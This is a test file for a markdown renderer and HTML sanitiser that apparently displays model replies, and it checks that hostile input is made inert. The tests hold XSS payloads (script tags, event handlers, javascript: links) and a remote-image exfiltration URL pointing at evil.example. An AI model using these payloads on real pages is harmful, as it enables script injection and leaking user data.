// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import {
  IncrementalMarkdown,
  isCodeHtml,
  renderMarkdown,
  sanitizeHtml,
  scanBlocks,
  splitSettled,
} from "./markdown";
import { highlightCode } from "./highlight";

describe("splitSettled", () => {
  it("cuts at blank lines between paragraphs and keeps the last block as the tail", () => {
    const { settled, tail } = splitSettled("one\n\ntwo\n\nthree");
    expect(settled).toEqual(["one\n\n", "two\n\n"]);
    expect(tail).toBe("three");
  });

  it("never cuts inside fenced code, even at blank lines, and cuts right after it", () => {
    const text = "intro\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\nafter";
    const { settled, tail } = splitSettled(text);
    expect(settled).toEqual(["intro\n\n", "```js\nconst a = 1;\n\nconst b = 2;\n```\n"]);
    expect(tail).toBe("\nafter");
  });

  it("tracks tilde fences and needs a closing fence at least as long as the opening", () => {
    const text = "~~~~\na\n\n~~~\nstill code\n\n~~~~\n\nout";
    expect(splitSettled(text).settled).toEqual(["~~~~\na\n\n~~~\nstill code\n\n~~~~\n"]);
    expect(splitSettled(text).tail).toBe("\nout");
  });

  it("a closing fence followed by a tab does not close it (as in marked)", () => {
    expect(scanBlocks("```\na\n```\t\n\nb").openFence).toBe(true);
  });

  it("does not cut between the items of a list separated by blank lines", () => {
    expect(splitSettled("- a\n\n- b\n\n1. c\n\nafter")).toEqual({
      settled: ["- a\n\n- b\n\n1. c\n\n"],
      tail: "after",
    });
  });

  it("cuts after an ATX heading at the margin, not after one that may be inside a list", () => {
    expect(splitSettled("# Title\ntext").settled).toEqual(["# Title\n"]);
    expect(splitSettled("- a\n# Title\ntext").settled).toEqual([]);
  });

  it("keeps an HTML block of types 1-5 whole across blank lines", () => {
    expect(splitSettled("<!--\n\nx\n\n-->\n\nafter").settled).toEqual(["<!--\n\nx\n\n-->\n\n"]);
    expect(splitSettled("<pre>\n\n</script>\n\nx").settled).toEqual([]);
  });

  it("an unclosed fence keeps everything after it in the tail", () => {
    const scan = scanBlocks("text\n\n```py\nx = 1\n\ny = 2\n");
    expect(scan.boundaries).toEqual([6]);
    expect(scan.openFence).toBe(true);
  });

  it("does not cut before an indented line (list continuation or indented code)", () => {
    const text = "- item\n\n    continued\n\nnext";
    expect(splitSettled(text)).toEqual({ settled: ["- item\n\n    continued\n\n"], tail: "next" });
  });

  it("places a boundary before an incomplete last line once its first character is known", () => {
    expect(splitSettled("para\n\n").settled).toEqual([]);
    expect(splitSettled("para\n\nn").settled).toEqual(["para\n\n"]);
    expect(splitSettled("para\n\n ").settled).toEqual([]);
  });

  it("leading blank lines do not make an empty block", () => {
    expect(splitSettled("\n\nfirst\n\nsecond").settled).toEqual(["\n\nfirst\n\n"]);
  });

  it("joined blocks give back the original text", () => {
    const text = "# T\n\np1\n\n```\nc\n\nc\n```\n\n| a |\n| - |\n| 1 |\n\n- x\n- y\n\nend";
    const { settled, tail } = splitSettled(text);
    expect(settled.join("") + tail).toBe(text);
  });
});

describe("IncrementalMarkdown", () => {
  it("renders settled blocks once and reuses them while the tail grows", () => {
    const md = new IncrementalMarkdown();
    const first = md.update("Hello\n\nWor", true);
    expect(first.map((s) => s.key)).toEqual(["s0", "tail"]);
    const second = md.update("Hello\n\nWorld, more text", true);
    expect(second[0]).toBe(first[0]);
    expect(second[1]!.html).toContain("World, more text");
  });

  it("starts over when the text is not a continuation", () => {
    const md = new IncrementalMarkdown();
    md.update("alpha\n\nbeta", true);
    const again = md.update("gamma\n\ndelta", true);
    expect(again[0]!.html).toContain("gamma");
    expect(again.map((s) => s.key)).toEqual(["s0", "tail"]);
  });

  it("renders a finished text seen for the first time in one pass", () => {
    const md = new IncrementalMarkdown();
    const text = "alpha\n\n```rust\nfn main() {}\n```\n\nbeta";
    const segments = md.update(text, false);
    expect(segments.map((s) => s.key)).toEqual(["all"]);
    expect(segments[0]!.html).toBe(renderMarkdown(text));
    expect(md.update(text, false)).toBe(segments);
  });

  it("renders a text with link reference definitions whole (they reach across blocks)", () => {
    const md = new IncrementalMarkdown();
    const text = "See [docs].\n\nMore.\n\n[docs]: https://example.com/docs";
    for (let i = 1; i <= text.length; i++) md.update(text.slice(0, i), true);
    const html = md.update(text, false);
    expect(html.map((s) => s.html).join("")).toBe(renderMarkdown(text));
    expect(html[0]!.html).toContain('href="https://example.com/docs"');
  });

  it("does not highlight a code block that is still streaming, and does once it closes", () => {
    const md = new IncrementalMarkdown();
    const open = md.update("```rust\nfn main() {}\n", true);
    expect(open[0]!.html).not.toContain("hljs-keyword");
    const closed = md.update("```rust\nfn main() {}\n```\n", true);
    expect(closed[0]!.html).toContain("hljs-keyword");
  });

  it("renders the same content as rendering the whole text at once", () => {
    const text = "Para one\n\nPara *two*\n\n- a\n- b\n\n> quote";
    const md = new IncrementalMarkdown();
    let html = "";
    for (let i = 1; i <= text.length; i++)
      html = md
        .update(text.slice(0, i), true)
        .map((s) => s.html)
        .join("");
    const strip = (s: string) => s.replace(/\s+/g, "");
    expect(strip(html)).toBe(strip(renderMarkdown(text)));
  });

  it("renders each settled block of a long reply once", () => {
    const md = new IncrementalMarkdown();
    let text = "";
    let previous: ReturnType<IncrementalMarkdown["update"]> = [];
    for (let i = 0; i < 300; i++) {
      text += `Paragraph ${i} with some words in it.\n\n`;
      const segments = md.update(text, true);
      // Blocks settled earlier come back as the very same objects: they were not rendered again.
      if (previous.length > 1) {
        expect(segments[0]).toBe(previous[0]);
        expect(segments[previous.length - 2]).toBe(previous[previous.length - 2]);
      }
      previous = segments;
    }
    expect(md.update(text, false)).toHaveLength(300);
  });
});

describe("renderMarkdown", () => {
  it("renders GFM tables", () => {
    const html = renderMarkdown("| a | b |\n| - | - |\n| 1 | 2 |");
    expect(html).toContain("<table>");
    expect(html).toContain("<th>a</th>");
    expect(html).toContain("<td>2</td>");
  });

  it("highlights fenced code and adds a copy button", () => {
    const html = renderMarkdown("```python\ndef f():\n    return 1\n```");
    expect(html).toContain('class="hljs language-python"');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toMatch(/<button[^>]*data-testid="code-copy"/);
    expect(html).toContain('type="button"');
    expect(html).not.toContain("data-copy-nonce");
  });

  it("keeps hostile code inert while its highlighting skips the sanitiser", () => {
    const code = `<script>alert(1)</script><img src=x onerror="alert(2)"> '&' &amp; </code></pre><b>`;
    for (const lang of ["html", "javascript", "nosuchlang", ""]) {
      for (const highlight of [true, false]) {
        const html = renderMarkdown(`\`\`\`${lang}\n${code}\n\`\`\``, { highlight });
        const host = document.createElement("div");
        host.innerHTML = html;
        expect(host.querySelectorAll("script, img, b").length, `${lang} ${highlight}`).toBe(0);
        expect(host.querySelector("pre code")?.textContent).toBe(code);
        expect(host.querySelectorAll("*").length).toBe(
          host.querySelectorAll(".code-block, .code-block *").length,
        );
      }
    }
  });

  it("sets aside only class-only spans around escaped text (isCodeHtml)", () => {
    for (const [code, lang] of [
      ["fn main() { let s = \"<'&'>\"; }", "rust"],
      ['<div class="a">x</div>', "html"],
      ["const x = `${a}` // é 中文", "javascript"],
      ["plain 'text' & \"more\"", null],
    ] as const) {
      expect(isCodeHtml(highlightCode(code, lang).html), code).toBe(true);
      expect(isCodeHtml(highlightCode(code, lang, false).html), code).toBe(true);
    }
    for (const bad of [
      "<script>alert(1)</script>",
      '<img src=x onerror="alert(1)">',
      '<span class="hljs-string" onclick="alert(1)">x</span>',
      "<span class='hljs-string'>x</span>",
      '<span class="a"style="x">x</span>',
      '<a href="https://example.com">x</a>',
      "it's",
      'say "hi"',
      "&nbsp; or &#60;",
      "a < b",
    ]) {
      expect(isCodeHtml(bad), bad).toBe(false);
    }
  });

  it("shows raw HTML from the model as text", () => {
    const html = renderMarkdown('<script>alert(1)</script>\n\nhi <img src=x onerror="alert(1)">');
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain("&lt;script&gt;");
  });

  it("drops javascript: and data: links but keeps their text", () => {
    const html = renderMarkdown("[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=)");
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/href="data:/i);
    expect(html).toContain(">a</a>");
  });

  it("gives http links rel and target", () => {
    const html = renderMarkdown("[docs](https://example.com)");
    expect(html).toContain('href="https://example.com"');
    expect(html).toContain('rel="noreferrer noopener"');
    expect(html).toContain('target="_blank"');
  });

  it("does not load remote images; shows them as links", () => {
    const html = renderMarkdown("![chart](https://evil.example/leak?data=secret)");
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain("[image: chart]");
  });
});

describe("sanitizeHtml", () => {
  it("removes scripts, event handlers and dangerous elements", () => {
    const dirty = [
      "<script>alert(1)</script>",
      '<img src="x" onerror="alert(1)">',
      '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
      '<iframe src="https://evil.example"></iframe>',
      '<form action="https://evil.example"><input name="q"></form>',
      '<svg onload="alert(1)"><circle r="1"/></svg>',
      '<div style="position:fixed;inset:0">overlay</div>',
      '<a href="data:text/html,hi">d</a>',
      '<object data="x"></object><embed src="x">',
      "<style>body{display:none}</style>",
      '<p data-testid="message-error">spoof</p>',
    ].join("");
    const clean = sanitizeHtml(dirty);
    for (const bad of [
      "<script",
      "onerror",
      "onclick",
      "javascript:",
      "<iframe",
      "<form",
      "<input",
      "<svg",
      "onload",
      "style=",
      "data:text",
      "<object",
      "<embed",
      "<style",
      "data-testid",
    ]) {
      expect(clean, bad).not.toContain(bad);
    }
    expect(clean).toContain("overlay");
    expect(clean).toContain("spoof");
  });

  it("removes buttons that our code renderer did not make", () => {
    const clean = sanitizeHtml(
      '<button data-copy-nonce="guess" onclick="alert(1)">Copy</button>ok',
    );
    expect(clean).toBe("ok");
  });

  it("keeps inline data: images of allowed types only", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(sanitizeHtml(`<img src="${png}" alt="a">`)).toContain(png);
    expect(sanitizeHtml('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).not.toContain("<img");
    expect(sanitizeHtml('<img src="https://tracker.example/p.gif">')).not.toContain("<img");
  });

  it("keeps mailto links", () => {
    expect(sanitizeHtml('<a href="mailto:a@b.c">mail</a>')).toContain('href="mailto:a@b.c"');
  });
});
